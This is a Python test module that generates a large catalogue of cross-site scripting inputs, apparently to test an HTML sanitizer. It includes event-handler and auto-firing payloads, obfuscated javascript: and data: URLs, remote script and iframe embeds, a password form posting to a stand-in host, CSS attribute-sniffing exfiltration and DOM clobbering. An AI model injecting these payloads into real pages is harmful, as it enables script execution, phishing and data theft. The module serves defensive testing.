"""Elements, attributes and addresses that run something, load something or stand in something's way."""

import itertools
from collections.abc import Iterator

from tests.hostile.payloads import HOST, HTML64, IMG, REMOTE, RUN, SCRIPT, SVG64

# --- Handlers --------------------------------------------------------------------------------------------------------

_EVENTS = [
    "abort", "activate", "afterprint", "animationcancel", "animationend", "animationiteration", "animationstart",
    "auxclick", "beforecopy", "beforecut", "beforeinput", "beforematch", "beforepaste", "beforeprint",
    "beforescriptexecute", "beforetoggle", "beforeunload", "begin", "blur", "bounce", "cancel", "canplay",
    "canplaythrough", "change", "click", "close", "command", "contentvisibilityautostatechange", "contextmenu",
    "copy", "cuechange", "cut", "dblclick", "drag", "dragend", "dragenter", "dragleave", "dragover", "dragstart",
    "drop", "durationchange", "end", "ended", "error", "finish", "focus", "focusin", "focusout", "formdata",
    "fullscreenchange", "gotpointercapture", "hashchange", "input", "invalid", "keydown", "keypress", "keyup", "load",
    "loadeddata", "loadedmetadata", "loadstart", "lostpointercapture", "message", "mousedown", "mouseenter",
    "mouseleave", "mousemove", "mouseout", "mouseover", "mouseup", "mousewheel", "offline", "online", "pagehide",
    "pageshow", "paste", "pause", "play", "playing", "pointercancel", "pointerdown", "pointerenter", "pointermove",
    "pointerover", "pointerrawupdate", "pointerup", "popstate", "progress", "ratechange", "repeat", "reset", "resize",
    "scroll", "scrollend", "scrollsnapchange", "search", "securitypolicyviolation", "seeked", "seeking", "select",
    "selectionchange", "selectstart", "show", "slotchange", "stalled", "start", "storage", "submit", "suspend",
    "timeupdate", "toggle", "touchcancel", "touchend", "touchmove", "touchstart", "transitionend", "transitionrun",
    "transitionstart", "unhandledrejection", "unload", "volumechange", "waiting", "webkitanimationend", "wheel",
]  # fmt: skip
_ELEMENTS = [
    "a", "abbr", "article", "audio", "b", "blockquote", "body", "button", "canvas", "code", "custom-tag", "details",
    "div", "dl", "em", "figure", "form", "h2", "h5", "iframe", "img", "input", "li", "main", "marquee", "math",
    "object", "ol", "p", "pre", "q", "section", "select", "span", "strong", "summary", "svg", "table", "td",
    "textarea", "th", "time", "tr", "ul", "video", "xss",
]  # fmt: skip
# What fires by itself, as soon as it is there.
_BY_ITSELF = [
    f"<svg onload={RUN}>", f"<body onload={RUN}>", f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video><source onerror={RUN}></video>", f"<video src=x onerror={RUN}></video>", f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>", f"<button autofocus onfocus={RUN}>x</button>",
    f"<a href=# id=x tabindex=1 autofocus onfocus={RUN}>x</a>", f"<p tabindex=0 autofocus onfocusin={RUN}>x</p>",
    f"<marquee onstart={RUN} loop=1 width=0>x</marquee>", f"<iframe onload={RUN}></iframe>",
    f"<object data=x onerror={RUN}></object>", f"<embed src=x onerror={RUN} onload={RUN}>",
    f"<link rel=stylesheet href=x onerror={RUN}>", f"<style onload={RUN}></style>",
    f"<script src=x onerror={RUN}></script>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributeName=x dur=1s>", f"<svg><image href=x onerror={RUN}>",
    f"<svg><style onload={RUN}></style></svg>", f"<image src=x onerror={RUN}>",
    f"<picture><source srcset=x><img onerror={RUN} src=x></picture>",
    f"<p style=animation-name:x onanimationstart={RUN}>x</p><style>@keyframes x{{}}</style>",
    f"<p contenteditable autofocus onfocus={RUN}>x", f"<dialog open onclose={RUN}>x</dialog>",
    f"<div popover id=x ontoggle={RUN}>x</div><button popovertarget=x>x</button>",
    f"<video autoplay muted onloadstart={RUN}><source src=x></video>", f"<frameset onload={RUN}><frame></frameset>",
]  # fmt: skip
_SEPARATORS = ["/", "\t", "\n", "\f", "\r", "\x00", "//", " / ", "\x0b", "\xa0", "\"'", "/x=y/", " x ", "=", '""', "<"]
_QUOTES = [
    'onerror="{}"', "onerror='{}'", "onerror=`{}`", "onerror = {}", "onerror\t=\n{}", "ONERROR={}", "OnErRoR={}",
    "onerror&equals;{}", "onerror={};//", "onerror={}\\", 'onerror=&quot;{}&quot;', "on\x00error={}",
    "onerror\x00={}", "on&#101;rror={}", "onerror=&#99;anary()", "onerror=\\u0063anary()",
]  # fmt: skip


def handlers() -> Iterator[str]:
    for event, element in zip(_EVENTS, itertools.cycle(_ELEMENTS), strict=False):
        yield f'<{element} on{event}="{RUN}" src=x href=#>x</{element}>'
    yield from _BY_ITSELF
    for separator in _SEPARATORS:
        yield f"<img{separator}src=x{separator}onerror={RUN}>"
    for written in _QUOTES:
        yield f"<img src=x {written.format(RUN)}>"


# --- Addresses -------------------------------------------------------------------------------------------------------

_ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"\x01javascript:{RUN}", f"\x1fjavascript:{RUN}",
    f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"java\rscript:{RUN}", f"java\x00script:{RUN}",
    f"javascript\t:{RUN}", f"&#106;avascript:{RUN}", f"&#x6a;avascript:{RUN}", f"&#0000106avascript:{RUN}",
    f"&#x6A&#x61vascript:{RUN}", f"javascript&colon;{RUN}", f"java&Tab;script:{RUN}", f"java&NewLine;script:{RUN}",
    f"javascript&#58;{RUN}", f"&#1;javascript:{RUN}", f"&#32;javascript:{RUN}", f"&nbsp;javascript:{RUN}",
    f"java&shy;script:{RUN}", f"javascript:/*--></title></style></textarea></script>*/{RUN}",
    f"javascript://%0a{RUN}", "javascript:%63anary()", f"javascript://{HOST}/%0A{RUN}", f"%6aavascript:{RUN}",
    f"\\u006aavascript:{RUN}", f"\u200bjavascript:{RUN}", f"\ufeffjavascript:{RUN}", f"\u2028javascript:{RUN}",
    f"ｊavascript:{RUN}", f"javaſcript:{RUN}", f"x:javascript:{RUN}", f"feed:javascript:{RUN}",
    f"view-source:javascript:{RUN}", f"livescript:{RUN}", f"mocha:{RUN}", f"vbscript:{RUN}",
    f"VBSCRIPT:Execute({RUN})", f"data:text/html,{SCRIPT}", f"data:text/html;base64,{HTML64}", f"data:,{SCRIPT}",
    f"DATA:text/html;charset=utf-8,{SCRIPT}", f"data:image/svg+xml;base64,{SVG64}",
    f"data:application/xhtml+xml,{SCRIPT}",
    f"data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>", f"blob:https://{HOST}/1",
    f"filesystem:https://{HOST}/temporary/x", "about:blank", f"jar:https://{HOST}/x.jar!/x.html",
    "file:///etc/passwd", f"//{HOST}/x", f"\\\\{HOST}\\x", f"/\\{HOST}/x", f"https:{HOST}", f"https:///{HOST}",
    f"http://{HOST}:80@techblog.test/", "ms-its:mhtml:file://x", "res://ieframe.dll/x", "tel:1", "sms:1",
    f"intent://{HOST}#Intent;end", "ws://canary.test",
]  # fmt: skip
_CARRIERS = [
    "<a href='{}'>x</a>", "<area href='{}' shape=default>", "<form action='{}'><input type=submit></form>",
    "<form><button formaction='{}'>x</button></form>", "<iframe src='{}'></iframe>", "<embed src='{}'>",
    "<object data='{}'></object>", "<img src='{}'>", "<img srcset='{} 2x'>", "<img lowsrc='{}' dynsrc='{}'>",
    "<link rel=stylesheet href='{}'>", "<link rel=import href='{}'>", "<link rel=prefetch href='{}'>",
    "<base href='{}'>", "<body background='{}'>", "<table background='{}'><td background='{}'>",
    "<input type=image src='{}'>", "<video poster='{}'></video>", "<video><track src='{}' default></video>",
    "<svg><a xlink:href='{}'><text y=9>x</text></a></svg>", "<svg><use href='{}#x'/></svg>",
    "<svg><image xlink:href='{}'/></svg>", "<svg><script href='{}'></script></svg>",
    "<svg><a><animate attributeName=href values='{}'/><text y=9>x</text></a></svg>",
    "<svg><a><set attributeName=href to='{}'/><text y=9>x</text></a></svg>", "<svg><feImage href='{}'/></svg>",
    "<math href='{}'><mi>x</mi></math>", "<math><maction actiontype=statusline xlink:href='{}'>x</maction></math>",
    "<meta http-equiv=refresh content='0;url={}'>", "<blockquote cite='{}'>x</blockquote>", "<q cite='{}'>x</q>",
    "<applet code='{}'></applet>", "<frameset><frame src='{}'></frameset>", "<bgsound src='{}'>",
    "<layer src='{}'></layer>", "<isindex action='{}'>", "<xml src='{}'></xml>", "<portal src='{}'></portal>",
    "<fencedframe src='{}'></fencedframe>", "<a href='https://techblog.test' ping='{}'>x</a>", "<html manifest='{}'>",
    "<head profile='{}'>", "<del cite='{}'>x</del>", "<audio src='{}' autoplay></audio>",
    "<script src='{}'></script>", "<source src='{}'>", "<param name=url value='{}'>",
]  # fmt: skip


def addresses() -> Iterator[str]:
    for address in _ADDRESSES:
        yield f"<a href='{address}'>x</a>" if "'" not in address else f'<a href="{address}">x</a>'
    for carrier, address in zip(_CARRIERS, itertools.cycle([f"javascript:{RUN}", f"https://{HOST}/x"]), strict=False):
        yield carrier.replace("{}", address)
        yield carrier.replace("{}", f"data:text/html;base64,{HTML64}")


# --- What holds other pages, sends forms, changes the page -----------------------------------------------------------

_SRCDOC = SCRIPT.replace("<", "&lt;")


def embedding() -> Iterator[str]:
    yield from [
        SCRIPT, REMOTE, f"<SCRIPT SRC=//{HOST}/x.js></SCRIPT>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<script/x>{RUN}</script>", f"<script\n>{RUN}</script\n>", f"<<script>{RUN}//<</script>",
        f"<script type=module>{RUN}</script>", f"<script>{RUN}", f"<script type=text/x-template>{RUN}</script>",
        f"<script nonce=x>{RUN}</script>", f"<script async src=//{HOST}/x.js>",
        '<script type=importmap>{"imports":{"studio/studio":"//canary.test/x.js"}}</script>',
        f"<script language=vbscript>{RUN}</script>",
        '<script type=speculationrules>{"prerender":[{"urls":["//canary.test/x"]}]}</script>',
        f"<svg><script>{RUN}</script></svg>", "<svg><script>&#99;anary()</script></svg>",
        f"<svg><script xlink:href=//{HOST}/x.js></script></svg>", f"<svg/onload={RUN}//",
        f"<iframe srcdoc='{_SRCDOC}'></iframe>", f'<iframe srcdoc="{IMG.replace(chr(34), "")}"></iframe>',
        f"<iframe srcdoc={_SRCDOC}>", f"<iframe src=//{HOST}/x></iframe>",
        f"<iframe src='https://www.youtube-nocookie.com/embed/x' onload={RUN}></iframe>",
        f"<iframe src='https://www.youtube-nocookie.com.{HOST}/embed/aaaaaaaaaaa'></iframe>",
        f"<iframe src='https://{HOST}/?youtube.com/embed/aaaaaaaaaaa'></iframe>",
        f"<figure class=embed><a href='javascript:{RUN}//youtube.com/watch?v=aaaaaaaaaaa'>x</a></figure>",
        f"<figure class=embed><a href='https://youtu.be/aaaaaaaaaa\"onload={RUN}'>x</a></figure>",
        f"<figure class=embed><a href='https://soundcloud.com/a/b&auto_play=1\"><script>{RUN}</script>'>x</a></figure>",
        f"<object type=text/html data=//{HOST}/x></object>",
        f"<object><param name=movie value=//{HOST}/x.swf></object>",
        f"<embed src=//{HOST}/x.swf allowscriptaccess=always>",
        f"<form action=//{HOST}/x><input name=password type=password><input type=submit value=Login></form>",
        f"<form id=f></form><button form=f formaction=//{HOST}/x>x</button>",
        "<input type=hidden name=csrfmiddlewaretoken value=x>",
        "<button type=submit formaction='/acme/articles/1/delete/' formmethod=post>x</button>",
        f"<isindex type=image src=1 onerror={RUN}>", f"<meta http-equiv=refresh content='0;url=https://{HOST}/x'>",
        "<meta http-equiv=set-cookie content='session=x'>",
        "<meta http-equiv=content-security-policy content=\"script-src *\">",
        "<meta name=referrer content=unsafe-url>", "<meta charset=utf-7>", f"<base href=//{HOST}/>",
        "<base target=_parent>", f"<link rel=stylesheet href=//{HOST}/x.css>", f"<link rel=manifest href=//{HOST}/x>",
        f"<link rel=canonical href=//{HOST}/x>", f"<link rel=preload as=script href=//{HOST}/x.js>",
        f"<link rel=modulepreload href=//{HOST}/x.js>", f"<link rel=dns-prefetch href=//{HOST}>",
        f"<link rel=icon href=//{HOST}/x.ico>", f"<p hx-get=//{HOST}/x hx-trigger=load>x</p>",
        f"<p hx-on:click={RUN} hx-on::load={RUN}>x</p>", "<p data-hx-post=/acme/ data-hx-trigger=load>x</p>",
        f"<p hx-vals='js:{RUN}' hx-get=/ hx-trigger=load>x</p>",
        f"<p x-data x-init={RUN} @click={RUN} :x={RUN} v-html=x ng-app ng-click={RUN}>x</p>",
        "<p data-controller=x data-action=x>x</p>", "<p is=x-evil>x</p><x-evil></x-evil>",
        "<slot name=x></slot><p slot=x>x</p>", "<p popover id=x>x</p><button popovertarget=x autofocus>x</button>",
        f"<dialog open><form method=dialog action=//{HOST}>x</form></dialog>",
        "<p accesskey=x tabindex=1 contenteditable draggable=true>x</p>", "<a href=# target=_top rel=opener>x</a>",
    ]  # fmt: skip


# --- Looks -----------------------------------------------------------------------------------------------------------

_STYLES = [
    "position:fixed;inset:0;z-index:9999;background:#fff", f"background:url(//{HOST}/x)",
    f"background:url(javascript:{RUN})", f"background:url('data:image/svg+xml;base64,{SVG64}')",
    f"width:expression({RUN})", "behavior:url(#default#time2)", f"-moz-binding:url(//{HOST}/x.xml#x)",
    f"list-style-image:url(//{HOST}/x)", f"content:url(//{HOST}/x)", f"cursor:url(//{HOST}/x),auto",
    f"b\\61 ckground:u\\72l(//{HOST}/x)", f"/**/background/**/:/**/url(//{HOST}/x)", "display:none!important",
    f"mask:url(//{HOST}/x#x)", f"filter:url(//{HOST}/x#x)", f"src:url(//{HOST}/x)",
    f"--x:url(//{HOST}/x);background:var(--x)", f"background:image-set('//{HOST}/x' 1x)",
]  # fmt: skip


def styles() -> Iterator[str]:
    for style in _STYLES:
        yield f'<p style="{style}">x</p>'
    for rule in (
        f"@import '//{HOST}/x.css';", f"@import url(//{HOST}/x.css);", "*{display:none}",
        f"input[value^=a]{{background:url(//{HOST}/a)}}",
        f"@font-face{{font-family:x;src:url(//{HOST}/x)}}*{{font-family:x}}", f"</style>{SCRIPT}<style>",
        f"body:before{{content:url(//{HOST}/x)}}", f"@namespace url(//{HOST}/x);", f"<!--</style>{IMG}-->",
        f"@charset 'utf-7';+ADw-script+AD4-{RUN}",
    ):  # fmt: skip
        yield f"<style>{rule}</style>"
    for name in ("masthead", "modal overlay", "scroll", "htmx-indicator", "frame", "unseen", "skip"):
        yield f"<div class='{name}' id=content>x</div>"


# --- Names that the page's own scripts look for ----------------------------------------------------------------------

_NAMES = [
    "getElementById", "querySelector", "querySelectorAll", "cookie", "body", "head", "forms", "children",
    "childNodes", "attributes", "nodeName", "parentNode", "ownerDocument", "defaultView", "implementation",
    "currentScript", "domain", "location", "documentElement", "addEventListener", "createElement", "htmx", "config",
    "content", "main", "title", "name", "submit", "action", "length", "constructor", "__proto__", "hasOwnProperty",
    "toString", "valueOf", "canary",
]  # fmt: skip


def clobbering() -> Iterator[str]:
    for name in _NAMES:
        yield f"<img name={name} id={name} src=x><form name={name}><input name={name}><input id={name}></form>"
        yield f"<a id={name} href='https://{HOST}/'>x</a><a id={name} name=x href='https://{HOST}/x.js'>x</a>"
